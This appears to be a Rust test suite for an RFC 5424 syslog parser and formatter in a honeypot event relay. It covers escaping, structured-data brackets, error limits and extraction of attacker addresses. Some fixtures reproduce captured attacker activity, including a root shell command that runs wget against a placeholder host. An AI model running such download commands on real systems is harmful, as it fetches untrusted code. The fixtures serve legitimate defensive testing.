//! Table and property tests of the RFC 5424 module (formatting, parsing, conventions).

use std::net::IpAddr;

use proptest::prelude::*;
use time::OffsetDateTime;

use super::*;

fn ts() -> OffsetDateTime {
    OffsetDateTime::from_unix_timestamp_nanos(1_714_000_000_123_456_000).unwrap()
}

const TS: &str = "2024-04-24T23:06:40.123456+00:00";

fn params(line: &Line) -> Vec<(&str, &str)> {
    line.relay_params()
        .iter()
        .map(|(k, v)| (k.as_str(), v.as_str()))
        .collect()
}

#[test]
fn reference_format() {
    let line = format_line(
        Severity::Info,
        ts(),
        "decky-01",
        "ssh",
        "auth_attempt",
        &[
            ("src_ip", "203.0.113.9"),
            ("principal", "root"),
            ("secret_printable", "p\"a]s\\s"),
        ],
        None,
    );
    assert_eq!(
        line,
        r#"<134>1 2024-04-24T23:06:40.123456+00:00 decky-01 ssh - auth_attempt [relay@55555 src_ip="203.0.113.9" principal="root" secret_printable="p\"a\]s\\s"]"#
    );
}

#[test]
fn nil_values_and_messages() {
    let line = format_line(
        Severity::Warning,
        ts(),
        "",
        "a b",
        "startup",
        &[],
        Some("two\nlines"),
    );
    assert_eq!(
        line,
        "<132>1 2024-04-24T23:06:40.123456+00:00 - a_b - startup - two\\nlines"
    );
}

#[test]
fn parse_round_trips_format() {
    let line = format_line(
        Severity::Warning,
        ts(),
        "decky-01",
        "http",
        "request",
        &[
            ("body", "a]b\"c\\d"),
            ("path", "/wp-login.php"),
            ("headers", "[\"Host\",\"UA\"]"),
        ],
        Some("free text"),
    );
    let parsed = parse_line(&line).unwrap();
    assert_eq!(parsed.pri, 132);
    assert_eq!(parsed.severity(), 4);
    assert_eq!(parsed.facility(), FACILITY_LOCAL0);
    assert_eq!(parsed.timestamp_micros(), Some(1_714_000_000_123_456));
    assert_eq!(parsed.hostname, "decky-01");
    assert_eq!(parsed.app_name, "http");
    assert_eq!(parsed.procid, "-");
    assert_eq!(parsed.msgid, "request");
    assert_eq!(
        params(&parsed),
        [
            ("body", "a]b\"c\\d"),
            ("path", "/wp-login.php"),
            ("headers", "[\"Host\",\"UA\"]"),
        ]
    );
    assert_eq!(parsed.msg.as_deref(), Some("free text"));
}

// SV-1: the reference's non-greedy `\[relay@55555 (.*?)\]` stopped at the first `]`,
// even an escaped one, and silently dropped every later field.

#[test]
fn sv1_http_fingerprint_keeps_fields_after_a_json_list() {
    let escaped = format!(
        r#"<134>1 {TS} decky-01 http - http_request_fingerprint [relay@55555 src_ip="198.51.100.7" src_port="51234" method="GET" headers_ordered="[\"Host\", \"User-Agent\", \"Accept\"\]" ja4h="ge11nn030000_a0b1c2d3e4f5_000000000000_000000000000" path="/admin/login.php"]"#
    );
    // Same from a producer that does not escape `]` inside the quotes.
    let unescaped = escaped.replace(r#"\"Accept\"\]"#, r#"\"Accept\"]"#);
    assert_ne!(escaped, unescaped);
    for line in [&escaped, &unescaped] {
        let p = parse_line(line).unwrap();
        assert_eq!(p.msgid, "http_request_fingerprint");
        assert_eq!(
            p.param("headers_ordered"),
            Some(r#"["Host", "User-Agent", "Accept"]"#)
        );
        assert_eq!(
            p.param("ja4h"),
            Some("ge11nn030000_a0b1c2d3e4f5_000000000000_000000000000")
        );
        assert_eq!(p.param("path"), Some("/admin/login.php"));
        assert_eq!(p.relay_params().len(), 6);
        assert_eq!(p.msg, None);
    }
}

#[test]
fn sv1_message_stored_keeps_fields_after_attachments() {
    let attachments =
        r#"[{"filename": "invoice.pdf", "size": 1234, "sha256": "ab"}, {"filename": "x].html"}]"#;
    let urls = r#"["http://203.0.113.5/a?b=[c]", "https://example.test/"]"#;
    let line = format_line(
        Severity::Warning,
        ts(),
        "decky-02",
        "smtp",
        "message_stored",
        &[
            ("src_ip", "192.0.2.44"),
            ("mail_from", "<a@b.test>"),
            ("attachments_json", attachments),
            ("urls_json", urls),
            ("body_simhash", "f0e1d2c3b4a59687"),
            ("body_base64_bytes", "48211"),
            ("html_smuggling", "true"),
        ],
        None,
    );
    let p = parse_line(&line).unwrap();
    assert_eq!(p.param("attachments_json"), Some(attachments));
    assert_eq!(p.param("urls_json"), Some(urls));
    assert_eq!(p.param("body_simhash"), Some("f0e1d2c3b4a59687"));
    assert_eq!(p.param("body_base64_bytes"), Some("48211"));
    assert_eq!(p.param("html_smuggling"), Some("true"));
}

#[test]
fn sv1_post_body_with_bracket_keeps_form_credentials() {
    let line = format!(
        r#"<134>1 {TS} decky-01 http - request [relay@55555 src_ip="203.0.113.9" method="POST" path="/login" body="user[name\]=admin&pass=x\]y\"z\\" form_user="admin" form_pass="x]y\"z\\" secret_b64="eF15Inpc" principal="admin"] POST /login"#
    );
    let p = parse_line(&line).unwrap();
    assert_eq!(p.param("body"), Some(r#"user[name]=admin&pass=x]y"z\"#));
    assert_eq!(p.param("form_user"), Some("admin"));
    assert_eq!(p.param("form_pass"), Some(r#"x]y"z\"#));
    assert_eq!(p.param("secret_b64"), Some("eF15Inpc"));
    assert_eq!(p.param("principal"), Some("admin"));
    assert_eq!(p.msg.as_deref(), Some("POST /login"));
}

#[test]
fn multiple_elements_in_order() {
    let p = parse_line(
        r#"<165>1 2003-10-11T22:14:15.003Z mymachine.example.com evntslog - ID47 [exampleSDID@32473 iut="3" eventSource="Application" eventID="1011"][examplePriority@32473 class="high"][relay@55555 k="v" k="w"] msg"#,
    )
    .unwrap();
    assert_eq!(p.facility(), 20);
    assert_eq!(p.severity(), 5);
    assert_eq!(p.timestamp_micros(), Some(1_065_910_455_003_000));
    let ids: Vec<_> = p
        .elements
        .iter()
        .map(|(id, ps)| (id.as_str(), ps.len()))
        .collect();
    assert_eq!(
        ids,
        [
            ("exampleSDID@32473", 3),
            ("examplePriority@32473", 1),
            (SD_ID, 2)
        ]
    );
    assert_eq!(p.element("examplePriority@32473").unwrap()[0].1, "high");
    // The first of a repeated name wins.
    assert_eq!(p.param("k"), Some("v"));
    // An element with no parameters.
    let p = parse_line("<134>1 - h a - m [x@1][relay@55555]").unwrap();
    assert_eq!(p.elements, [("x@1".into(), vec![]), (SD_ID.into(), vec![])]);
}

#[test]
fn nil_values() {
    let p = parse_line("<0>1 - - - - - -").unwrap();
    assert_eq!(
        (
            p.pri,
            p.timestamp.as_str(),
            p.hostname.as_str(),
            p.app_name.as_str()
        ),
        (0, "-", "-", "-")
    );
    assert_eq!((p.procid.as_str(), p.msgid.as_str()), ("-", "-"));
    assert!(p.elements.is_empty() && p.msg.is_none());
    assert_eq!(p.timestamp_micros(), None);
    assert!(p.relay_params().is_empty());
    // Empty MSG is not a missing one.
    assert_eq!(
        parse_line("<0>1 - - - - - - ").unwrap().msg.as_deref(),
        Some("")
    );
    assert_eq!(
        parse_line("<0>1 - - - - - [a b=\"\"]").unwrap().elements[0].1[0].1,
        ""
    );
}

#[test]
fn escapes() {
    let p = parse_line(r#"<134>1 - h a - m [relay@55555 q="say \"hi\"" bs="C:\\dir\\" br="a\]b" other="\n\t\x" end="\\"]"#)
        .unwrap();
    assert_eq!(p.param("q"), Some(r#"say "hi""#));
    assert_eq!(p.param("bs"), Some(r"C:\dir\"));
    assert_eq!(p.param("br"), Some("a]b"));
    // A backslash before any other character stays (RFC 5424 §6.3.3).
    assert_eq!(p.param("other"), Some(r"\n\t\x"));
    assert_eq!(p.param("end"), Some(r"\"));
    // Non-ASCII and control characters are data.
    let p = parse_line("<134>1 - h a - m [relay@55555 u=\"héllo ✓\tx\"]").unwrap();
    assert_eq!(p.param("u"), Some("héllo ✓\tx"));
}

#[test]
fn msg_and_line_ends() {
    let bom = "<134>1 - h a - m - \u{feff}héllo";
    assert_eq!(parse_line(bom).unwrap().msg.as_deref(), Some("héllo"));
    let p = parse_line("<134>1 - h a - m - a [b] c\r\n").unwrap();
    assert_eq!(p.msg.as_deref(), Some("a [b] c"));
    let p = parse_line("<134>1 - h a - m [x a=\"1\"]  two spaces\n").unwrap();
    assert_eq!(p.msg.as_deref(), Some(" two spaces"));
}

#[test]
fn refused_lines() {
    let name33 = "n".repeat(MAX_SD_NAME + 1);
    let cases: Vec<(String, ParseError)> = vec![
        (String::new(), ParseError::BadHeader),
        ("<1344>1 - h a - m -".into(), ParseError::BadHeader),
        ("<192>1 - h a - m -".into(), ParseError::BadHeader),
        ("<+1>1 - h a - m -".into(), ParseError::BadHeader),
        ("<>1 - h a - m -".into(), ParseError::BadHeader),
        ("<13>2 - h a - m -".into(), ParseError::BadHeader),
        ("<13>1- h a - m -".into(), ParseError::BadHeader),
        (
            "<13>1 - h a - m".into(),
            ParseError::MissingField("STRUCTURED-DATA"),
        ),
        ("<13>1 - h a -".into(), ParseError::MissingField("MSGID")),
        (
            "<13>1 - h  a - m -".into(),
            ParseError::MissingField("APP-NAME"),
        ),
        (
            "<13>1 - hé a - m -".into(),
            ParseError::BadField("HOSTNAME"),
        ),
        (
            "<13>1 - h a\u{1} - m -".into(),
            ParseError::BadField("APP-NAME"),
        ),
        (
            format!("<13>1 - {} a - m -", "h".repeat(MAX_HOSTNAME + 1)),
            ParseError::FieldTooLong("HOSTNAME"),
        ),
        (
            format!("<13>1 - h {} - m -", "a".repeat(MAX_APP_NAME + 1)),
            ParseError::FieldTooLong("APP-NAME"),
        ),
        (
            format!("<13>1 - h a {} m -", "p".repeat(MAX_PROCID + 1)),
            ParseError::FieldTooLong("PROCID"),
        ),
        (
            format!("<13>1 - h a - {} -", "m".repeat(MAX_MSGID + 1)),
            ParseError::FieldTooLong("MSGID"),
        ),
        ("<13>1 - h a - m [x a=\"1]".into(), ParseError::BadSd(24)),
        ("<13>1 - h a - m [x a=1]".into(), ParseError::BadSd(20)),
        ("<13>1 - h a - m [x a =\"1\"]".into(), ParseError::BadSd(20)),
        ("<13>1 - h a - m [x  a=\"1\"]".into(), ParseError::BadSd(19)),
        ("<13>1 - h a - m [x a=\"1\"]x".into(), ParseError::BadSd(25)),
        ("<13>1 - h a - m -x".into(), ParseError::BadSd(17)),
        ("<13>1 - h a - m x".into(), ParseError::BadSd(16)),
        ("<13>1 - h a - m []".into(), ParseError::BadSd(17)),
        ("<13>1 - h a - m [a=b]".into(), ParseError::BadSd(18)),
        ("<13>1 - h a - m [a\"b]".into(), ParseError::BadSd(18)),
        (format!("<13>1 - h a - m [{name33}]"), ParseError::BadSd(49)),
        (
            format!("<13>1 - h a - m [x {name33}=\"\"]"),
            ParseError::BadSd(51),
        ),
        (
            format!("<13>1 - h a - m - {}", "x".repeat(MAX_LINE)),
            ParseError::TooLong,
        ),
        (
            format!("<13>1 - h a - m {}", "[x]".repeat(MAX_ELEMENTS + 1)),
            ParseError::TooManyElements,
        ),
        (
            format!("<13>1 - h a - m [x{}]", " a=\"\"".repeat(MAX_PARAMS + 1)),
            ParseError::TooManyParams,
        ),
    ];
    for (line, err) in cases {
        assert_eq!(parse_line(&line), Err(err), "{line:?}");
    }
    // The limits themselves are accepted.
    let name32 = &name33[1..];
    let at_limits = format!(
        "<191>1 - {} {} {} {} {} {}",
        "h".repeat(MAX_HOSTNAME),
        "a".repeat(MAX_APP_NAME),
        "p".repeat(MAX_PROCID),
        "m".repeat(MAX_MSGID),
        format!("[{name32}{}]", format!(" {name32}=\"\"").repeat(3)).repeat(MAX_ELEMENTS - 1)
            + &format!(
                "[x{}]",
                " a=\"\"".repeat(MAX_PARAMS - 3 * (MAX_ELEMENTS - 1))
            ),
        "x".repeat(1000)
    );
    let p = parse_line(&at_limits).unwrap();
    assert_eq!(p.elements.len(), MAX_ELEMENTS);
    assert_eq!(
        p.elements.iter().map(|(_, ps)| ps.len()).sum::<usize>(),
        MAX_PARAMS
    );
}

#[test]
fn double_wrapped_command_is_unwrapped() {
    let outer = format!(
        r#"<134>1 {TS} decky-01 bash 4242 - - <13>1 {TS} decky-01 bash 4242 command [relay@55555 src_ip="203.0.113.9" src_port="40022"] CMD uid=0 user=root src=203.0.113.9 pwd=/root cmd=wget http://198.51.100.1/x"#
    );
    let line = parse_line(&outer).unwrap();
    let ev = effective(&line);
    assert!(ev.unwrapped);
    assert_eq!(ev.event_type, "command");
    assert_eq!(ev.line.pri, 13);
    assert_eq!(ev.param("src_ip"), Some("203.0.113.9"));
    assert_eq!(
        ev.msg,
        Some("CMD uid=0 user=root src=203.0.113.9 pwd=/root cmd=wget http://198.51.100.1/x")
    );
    assert_eq!(
        ev.attacker_addr(),
        Some(("203.0.113.9".parse().unwrap(), Some(40022)))
    );
    // The address helper follows the same convention from the outer line.
    assert_eq!(attacker_addr(&line), ev.attacker_addr());
}

#[test]
fn unwrapping_is_one_level_and_bounded() {
    let line = parse_line("<13>1 - h a - - - <14>1 - h a - - - <15>1 - h a - m -").unwrap();
    let ev = effective(&line);
    assert!(ev.unwrapped);
    assert_eq!(ev.line.pri, 14);
    assert_eq!(ev.event_type, "-");
    assert_eq!(ev.msg, Some("<15>1 - h a - m -"));
    assert!(ev.line.inner().is_none());
    // Nesting as deep as a line allows costs one inner parse, not one per level.
    let deep = "<13>1 - h a - - - ".repeat(3000) + "end";
    let line = parse_line(&deep).unwrap();
    let inner = line.inner().unwrap();
    assert_eq!(inner.msg.as_deref().map(str::len), Some(deep.len() - 36));
    assert!(inner.inner().is_none());
    // A nil MSGID with a MSG that is not a line is no wrapping.
    let line = parse_line("<13>1 - h a - - -    <13>1 broken").unwrap();
    assert!(line.inner().is_none() && !effective(&line).unwrapped);
}

#[test]
fn bare_cmd_message_is_a_command() {
    let line = parse_line(&format!(
        "<13>1 {TS} decky-01 bash 77 - - CMD uid=0 user=root src=198.51.100.3 pwd=/ cmd=ping 8.8.8.8"
    ))
    .unwrap();
    let ev = effective(&line);
    assert!(!ev.unwrapped);
    assert_eq!(ev.event_type, "command");
    assert!(ev.params.is_empty());
    // SV-3: nothing in MSG prose names the attacker.
    assert_eq!(ev.attacker_addr(), None);
    // A MSGID wins over the MSG text; a nil MSGID without CMD stays nil.
    for (text, kind) in [
        ("<13>1 - h a - login - CMD x", "login"),
        ("<13>1 - h a - - - CMDx", "-"),
        ("<13>1 - h a - - - <13>1 broken", "-"),
        ("<13>1 - h a - - [relay@55555 k=\"v\"]", "-"),
    ] {
        let line = parse_line(text).unwrap();
        let ev = effective(&line);
        assert_eq!(ev.event_type, kind, "{text}");
        assert!(!ev.unwrapped);
    }
    let line = parse_line("<13>1 - h a - - [relay@55555 k=\"v\"]").unwrap();
    assert_eq!(effective(&line).params, line.relay_params());
}

type Addr = (IpAddr, Option<u16>);

#[test]
fn attacker_address_from_sd_keys_in_order() {
    let addr = |sd: &str| {
        let line = parse_line(&format!(
            "<134>1 - h a - m {sd} from 192.0.2.1 rhost=192.0.2.2"
        ))
        .unwrap();
        attacker_addr(&line)
    };
    let ip = |s: &str| s.parse::<IpAddr>().unwrap();
    let cases: [(&str, Option<Addr>); 13] = [
        ("-", None),
        (r#"[relay@55555 user="root"]"#, None),
        (r#"[other@1 src_ip="10.0.0.1"]"#, None),
        (
            r#"[relay@55555 ip="10.0.0.7" src_ip="203.0.113.9"]"#,
            Some((ip("203.0.113.9"), None)),
        ),
        (
            r#"[relay@55555 remote_addr="198.51.100.2:5555" src_port="1"]"#,
            Some((ip("198.51.100.2"), Some(5555))),
        ),
        (
            r#"[relay@55555 client_ip="[2001:db8::1]:443"]"#,
            Some((ip("2001:db8::1"), Some(443))),
        ),
        (
            r#"[relay@55555 src="2001:db8::2" remote_port="22"]"#,
            Some((ip("2001:db8::2"), Some(22))),
        ),
        (
            r#"[relay@55555 src="[2001:db8::3]"]"#,
            Some((ip("2001:db8::3"), None)),
        ),
        (
            r#"[relay@55555 src_ip="::ffff:192.0.2.9" src_port="x" remote_port="8080"]"#,
            Some((ip("192.0.2.9"), Some(8080))),
        ),
        (
            r#"[relay@55555 src_ip="Unknown" target_ip="192.0.2.77" src_port="+5"]"#,
            Some((ip("192.0.2.77"), None)),
        ),
        (
            r#"[relay@55555 remote_ip="192.0.2.5" src_port="70000"]"#,
            Some((ip("192.0.2.5"), None)),
        ),
        (
            r#"[relay@55555 src_ip=" 192.0.2.6 " src_port="31337"]"#,
            Some((ip("192.0.2.6"), Some(31337))),
        ),
        // Only the first relay element counts.
        (
            r#"[relay@55555 user="x"][relay@55555 src_ip="192.0.2.8"]"#,
            None,
        ),
    ];
    for (sd, want) in cases {
        assert_eq!(addr(sd), want, "{sd}");
    }
}

#[test]
fn display_is_canonical() {
    let text =
        "<134>1 - h a - m [x@1 a=\"1]2\" b=\"\\q\"][relay@55555 k=\"v\\\\\"] \u{feff}\u{feff}m";
    let p = parse_line(text).unwrap();
    assert_eq!(p.msg.as_deref(), Some("\u{feff}m"));
    let canonical = p.to_string();
    assert_eq!(
        canonical,
        "<134>1 - h a - m [x@1 a=\"1\\]2\" b=\"\\\\q\"][relay@55555 k=\"v\\\\\"] \u{feff}\u{feff}m"
    );
    assert_eq!(parse_line(&canonical).unwrap(), p);
}

fn sd_name() -> impl Strategy<Value = String> {
    "[!#-<>-\\\\^-~]{1,32}"
}

fn arb_line() -> impl Strategy<Value = Line> {
    (
        0u8..=191,
        "[!-~]{1,40}|-",
        "[!-~]{1,20}",
        "[!-~]{1,48}",
        "[!-~]{1,20}",
        "[!-~]{1,32}",
        proptest::collection::vec(
            (
                sd_name(),
                proptest::collection::vec((sd_name(), "[\\PC\"\\\\\\]\\t]{0,30}"), 0..4),
            ),
            0..4,
        ),
        proptest::option::of("[\\PC\\[\\]\"\\\\\u{feff}]{0,40}"),
    )
        .prop_map(
            |(pri, timestamp, hostname, app_name, procid, msgid, elements, msg)| {
                let mut line = Line {
                    pri,
                    timestamp,
                    hostname,
                    app_name,
                    procid,
                    msgid,
                    elements,
                    msg,
                    inner: None,
                };
                line.inner = parse::double_wrapped(&line).map(Box::new);
                line
            },
        )
}

proptest! {
    #[test]
    fn always_one_line(host in "\\PC{0,40}", key in "\\PC{0,40}", value in "\\PC{0,80}", msg in "\\PC{0,40}") {
        let line = format_line(Severity::Info, ts(), &host, "app", "id", &[(&key, &value)], Some(&msg));
        prop_assert!(!line.contains('\n') && !line.contains('\r'));
        // And what the emulators print always parses.
        prop_assert!(parse_line(&line).is_ok(), "{}", line);
    }

    #[test]
    fn display_then_parse_inverts(line in arb_line()) {
        let text = line.to_string();
        prop_assert_eq!(parse_line(&text), Ok(line));
    }

    #[test]
    fn format_then_parse_inverts(
        fields in proptest::collection::vec(("[a-z_]{1,12}", "[\\PC\"\\\\\\]]{0,60}"), 1..6),
        msg in proptest::option::of("\\PC{0,40}"),
    ) {
        let borrowed: Vec<(&str, &str)> = fields.iter().map(|(k, v)| (k.as_str(), v.as_str())).collect();
        let line = format_line(Severity::Notice, ts(), "decky-01", "http", "request", &borrowed, msg.as_deref());
        let parsed = parse_line(&line).unwrap();
        prop_assert_eq!(params(&parsed), borrowed);
        prop_assert_eq!(parsed.msg.as_deref(), msg.as_deref().map(|m| m.strip_prefix('\u{feff}').unwrap_or(m)));
        prop_assert_eq!(parsed.severity(), 5);
        prop_assert_eq!(parsed.timestamp_micros(), Some(1_714_000_000_123_456));
    }

    #[test]
    fn any_text_parses_to_a_canonical_line(s in "\\PC{0,200}|<1[0-9]{1,2}>1 [ -~]{0,40} \\[[ -~]{0,80}") {
        // Whatever parses writes back to a text that parses to the same line.
        if let Ok(line) = parse_line(&s) {
            let again = line.to_string();
            prop_assert_eq!(parse_line(&again), Ok(line));
        }
    }
}
